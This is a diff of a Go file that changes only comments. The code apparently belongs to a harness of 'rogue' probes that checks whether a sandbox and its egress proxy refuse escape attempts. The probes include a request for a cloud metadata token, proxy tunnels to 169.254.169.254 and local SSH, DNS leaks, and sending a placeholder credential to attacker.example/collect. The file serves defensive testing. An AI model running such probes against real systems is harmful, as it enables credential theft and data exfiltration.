@@ -11,10 +11,12 @@ import (
 	"time"
 )
 
-// knock is how long a connection may take: where there is no network, none takes any time.
+// knock is the timeout of a connection. Without a network every attempt fails
+// at once.
 const knock = 2 * time.Second
 
-// network goes straight to where a program on the machine could go.
+// network connects directly to addresses that a program on the machine could
+// reach.
 func (r *rogue) network(ctx context.Context) haul {
 	h := haul{Try: "network"}
 	d := net.Dialer{Timeout: knock}
@@ -27,8 +29,8 @@ func (r *rogue) network(ctx context.Context) haul {
 	return h
 }
 
-// names asks name servers, which hear what is asked: those of the system for a name that
-// exists, and one that listens on this machine.
+// names sends DNS queries, which could leak data to a name server: to those of
+// the system for an existing name, and to a UDP socket of this machine.
 func (r *rogue) names(ctx context.Context) haul {
 	h := haul{Try: "names"}
 	ctx, cancel := context.WithTimeout(ctx, 2*knock)
@@ -42,7 +44,8 @@ func (r *rogue) names(ctx context.Context) haul {
 	return h
 }
 
-// whisper sends one datagram, and is what comes back within a knock.
+// whisper sends one datagram and returns the response, "" if there is none
+// within knock.
 func whisper(ctx context.Context, place, what string) string {
 	c, err := (&net.Dialer{}).DialContext(ctx, "udp", place)
 	if err != nil {
@@ -61,7 +64,7 @@ func whisper(ctx context.Context, place, what string) string {
 	return string(buf[:n])
 }
 
-// proxy asks the way out for what it is not for.
+// proxy requests tunnels that the proxy must refuse.
 func (r *rogue) proxy(ctx context.Context) haul {
 	h := haul{Try: "proxy"}
 	for _, place := range []string{"169.254.169.254:80", "127.0.0.1:22", "[::ffff:10.0.0.1]:443", r.env("EBB_ITSELF")} {
@@ -70,32 +73,35 @@ func (r *rogue) proxy(ctx context.Context) haul {
 	return h
 }
 
-// metadata asks the way out for a cloud's metadata service by its name.
+// metadata requests the metadata service of a cloud by its name, through the
+// proxy.
 func (r *rogue) metadata(ctx context.Context) haul {
 	return r.show(ctx, "metadata", "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
 }
 
-// elsewhere shows the placeholder to a host of its own.
+// elsewhere sends the placeholder to another host.
 func (r *rogue) elsewhere(ctx context.Context) haul {
 	return r.show(ctx, "elsewhere", "https://attacker.example/collect")
 }
 
-// unescorted brings an account of its own, where somebody else would read the answers.
+// unescorted uses the attacker's own account, where the attacker could read
+// stored data.
 func (r *rogue) unescorted(ctx context.Context) haul {
 	return r.request(ctx, "unescorted", http.MethodGet, chargePath, "Bearer pk_of_the_attacker")
 }
 
-// beyond uses the placeholder for what it is not for.
+// beyond uses the placeholder for an action that the credential does not cover.
 func (r *rogue) beyond(ctx context.Context) haul {
 	return r.request(ctx, "beyond", http.MethodPost, "/v1/charges/42/refund", "Bearer "+r.key)
 }
 
-// query puts the placeholder where servers log it.
+// query puts the placeholder into the query, which servers log.
 func (r *rogue) query(ctx context.Context) haul {
 	return r.request(ctx, "query", http.MethodGet, chargePath+"?note="+url.QueryEscape(r.key), "Bearer "+r.key)
 }
 
-// tunnel asks the proxy for one and says with what status it answers.
+// tunnel requests a tunnel from the proxy and returns the status of the
+// response.
 func (r *rogue) tunnel(ctx context.Context, place string) string {
 	proxy, err := url.Parse(r.env("HTTPS_PROXY"))
 	if err != nil {
